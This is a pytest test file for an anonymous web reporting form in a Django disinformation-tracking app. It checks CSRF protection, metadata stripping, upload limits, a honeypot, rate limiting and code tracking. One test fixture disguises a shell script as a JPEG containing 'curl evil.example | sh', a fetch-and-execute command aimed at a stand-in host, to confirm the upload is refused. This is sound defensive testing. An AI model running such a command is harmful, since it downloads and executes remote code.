from __future__ import annotations

import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from sitroom.audit.models import AuditEvent
from sitroom.reports import conf
from sitroom.reports.codes import is_valid_code
from sitroom.reports.models import Report, ReportAttachment, ReportStatus
from sitroom.reports.services import report_status_set
from tests.reports.conftest import jpeg_with_gps, pdf_with_metadata, png_bytes

pytestmark = pytest.mark.django_db

FORM = {
    "category": "electoral_process",
    "text": "Le vote est reporté à jeudi dans la région des Lagunes, selon un message WhatsApp.",
    "urls": "https://m.facebook.com/story.php?story_fbid=10&id=20&fbclid=abc",
    "region": "lagunes",
}


def post_form(client: Client, data: dict, **files: SimpleUploadedFile):  # type: ignore[no-untyped-def]
    body = dict(data)
    if files:
        body["attachments"] = list(files.values())
    return client.post("/report/", body)


def code_from(response) -> str:  # type: ignore[no-untyped-def]
    match = re.search(r"/report/sent/([0-9A-Z]{10})/", response["Location"])
    assert match, response["Location"]
    return match.group(1)


def test_form_page_renders_without_account_and_shows_consent():
    response = Client().get("/report/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'enctype="multipart/form-data"' in html
    assert "stored encrypted" in html  # the consent text
    assert 'name="website"' in html  # the honeypot, hidden from people
    for category in ("hate_speech", "incitement", "threats", "impersonation", "manipulated_media"):
        assert f'value="{category}"' in html


def test_plain_post_without_javascript_stores_report_and_redirects_to_code():
    client = Client(enforce_csrf_checks=True)
    page = client.get("/report/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode())
    assert token
    response = client.post("/report/", {**FORM, "csrfmiddlewaretoken": token.group(1)})
    assert response.status_code == 302
    code = code_from(response)
    assert is_valid_code(code)
    report = Report.objects.get(code=code)
    assert report.channel == "web"
    assert report.language == "fr" and report.language_detected
    assert report.region == "lagunes"
    url = report.urls.get()
    assert url.platform == "facebook"
    assert url.canonical == "https://facebook.com/permalink.php?id=20&story_fbid=10"
    assert report.sender_hash and "127.0.0.1" not in report.sender_hash

    sent = client.get(response["Location"])
    assert sent.status_code == 200
    assert report.display_code in sent.content.decode()

    event = AuditEvent.objects.get(action="report.submit", object_id=str(report.pk))
    assert event.after == {"channel": "web", "category": "electoral_process", "code": code}


def test_csrf_stays_on():
    client = Client(enforce_csrf_checks=True)
    assert client.post("/report/", FORM).status_code == 403
    assert not Report.objects.exists()


def test_empty_report_gets_clear_message_and_keeps_input():
    response = Client().post(
        "/report/", {"category": "hate_speech", "seen_where": "Marché de Cocody"}
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "Give at least one of" in html
    assert "Marché de Cocody" in html  # nothing typed is lost
    assert not Report.objects.exists()


def test_field_errors_are_explained():
    response = Client().post(
        "/report/",
        {
            "text": "something",
            "urls": "not a link",
            "contact_email": "someone@example.org",
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "This field is required." in html  # category
    response = Client().post(
        "/report/",
        {**FORM, "urls": "notalink", "contact_email": "someone@example.org"},
    )
    html = response.content.decode()
    assert "is not a web link" in html
    assert "agree to how we use them" in html  # contact without consent
    assert not Report.objects.exists()


def test_exif_and_gps_are_stripped_from_uploaded_jpeg(_media: Path):
    original = jpeg_with_gps()
    assert Image.open(__import__("io").BytesIO(original)).getexif().get_ifd(0x8825)
    upload = SimpleUploadedFile("IMG_20260101_GPS.jpg", original, content_type="image/jpeg")
    response = post_form(Client(), FORM, photo=upload)
    assert response.status_code == 302, response.content[:2000]
    attachment = ReportAttachment.objects.get()
    assert "IMG_2026" not in attachment.file.name  # never the client's file name
    stored = Path(attachment.file.path).read_bytes()
    assert b"PhoneMaker" not in stored and b"Exif" not in stored
    image = Image.open(attachment.file.path)
    assert image.format == "JPEG"
    assert not image.getexif()
    assert attachment.width == 64 and attachment.content_type == "image/jpeg"


def test_png_text_chunks_and_pdf_metadata_are_stripped(_media: Path):
    response = post_form(
        Client(),
        FORM,
        a=SimpleUploadedFile("a.png", png_bytes(), content_type="image/png"),
        b=SimpleUploadedFile("memo.pdf", pdf_with_metadata(), content_type="application/pdf"),
    )
    assert response.status_code == 302
    stored = {a.kind: Path(a.file.path).read_bytes() for a in ReportAttachment.objects.all()}
    assert b"Secret Person" not in stored["image"]
    assert b"Secret Person" not in stored["pdf"] and b"Leaked memo" not in stored["pdf"]
    assert stored["pdf"].startswith(b"%PDF")


def test_script_disguised_as_jpeg_is_refused(_media: Path):
    fake = SimpleUploadedFile(
        "photo.jpg", b"#!/bin/sh\ncurl evil.example | sh\n", content_type="image/jpeg"
    )
    response = post_form(Client(), FORM, photo=fake)
    assert response.status_code == 415
    assert "Only photos" in response.content.decode()
    assert not Report.objects.exists() and not ReportAttachment.objects.exists()
    assert not any(_media.rglob("*.*")) if _media.exists() else True


def test_truncated_jpeg_with_right_magic_is_refused():
    broken = jpeg_with_gps()[:200]
    response = post_form(Client(), FORM, photo=SimpleUploadedFile("x.jpg", broken))
    assert response.status_code == 415
    assert not Report.objects.exists()


def test_oversized_upload_gets_413_and_a_clear_form_error(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(conf, "MAX_FILE_BYTES", 2048)
    big = SimpleUploadedFile("big.png", b"\x89PNG" + b"0" * 5000, content_type="image/png")
    response = post_form(Client(), FORM, photo=big)
    assert response.status_code == 413
    assert "Each file must be at most" in response.content.decode()
    assert not Report.objects.exists()


def test_request_too_large_refused_before_reading(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(conf, "MAX_REPORT_BYTES", 1024)
    big = SimpleUploadedFile("big.pdf", b"%PDF-1.4" + b"0" * 1_100_000)
    response = post_form(Client(), FORM, doc=big)
    assert response.status_code == 413
    assert "too large" in response.content.decode()


def test_honeypot_pretends_success_and_stores_nothing(caplog: pytest.LogCaptureFixture):
    response = Client().post("/report/", {**FORM, "website": "http://spam.example"})
    assert response.status_code == 302 and "/report/sent/" in response["Location"]
    assert Client().get(response["Location"]).status_code == 200
    assert not Report.objects.exists()
    assert "honeypot" in caplog.text


def test_rate_limit_answers_429_with_retry_after(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(conf.RATE_LIMITS, "web", conf.RateLimit(2, 600))
    client = Client()
    for i in range(2):
        assert post_form(client, {**FORM, "text": f"message number {i} " * 3}).status_code == 302
    refused = post_form(client, {**FORM, "text": "a third different message here"})
    assert refused.status_code == 429
    assert 0 < int(refused["Retry-After"]) <= 600
    assert Report.objects.count() == 2
    # Another address is not affected.
    other = Client(REMOTE_ADDR="10.1.2.3")
    assert post_form(other, FORM).status_code == 302


def test_duplicate_submission_is_folded_into_the_first():
    client = Client()
    first = code_from(post_form(client, FORM))
    again = post_form(client, {**FORM, "text": FORM["text"].upper() + "!!"})
    assert code_from(again) == first and "again=1" in again["Location"]
    assert Report.objects.count() == 1
    assert "already have this report" in client.get(again["Location"]).content.decode()
    # The same content from someone else is a separate report (it counts as a signal).
    other = Client(REMOTE_ADDR="10.9.9.9")
    assert code_from(post_form(other, FORM)) != first
    assert Report.objects.count() == 2


def test_tracking_page_needs_no_account_and_forgives_typing():
    code = code_from(post_form(Client(), FORM))
    report = Report.objects.get(code=code)
    anonymous = Client()
    lookup = anonymous.get("/track/", {"code": f" {code[:5].lower()}-{code[5:].lower()} "})
    assert lookup.status_code == 302 and lookup["Location"] == f"/track/{code}/"
    page = anonymous.get(f"/track/{code}/")
    assert page.status_code == 200
    html = page.content.decode()
    assert report.display_code in html and "Received" in html
    report_status_set(report=report, status=ReportStatus.IN_REVIEW)
    assert "Under review" in anonymous.get(f"/track/{code}/").content.decode()


def test_unknown_code_is_a_404_that_says_what_to_do():
    response = Client().get("/track/0000000000/")
    assert response.status_code == 404
    html = response.content.decode()
    assert "We found no report with this code" in html
    assert "send the report again" in html


def test_mistyped_code_is_told_apart_from_unknown():
    code = code_from(post_form(Client(), FORM))
    wrong = code[:3] + ("X" if code[3] != "X" else "Y") + code[4:]
    response = Client().get("/track/", {"code": wrong})
    assert response.status_code == 200
    assert "This code has a typo" in response.content.decode()
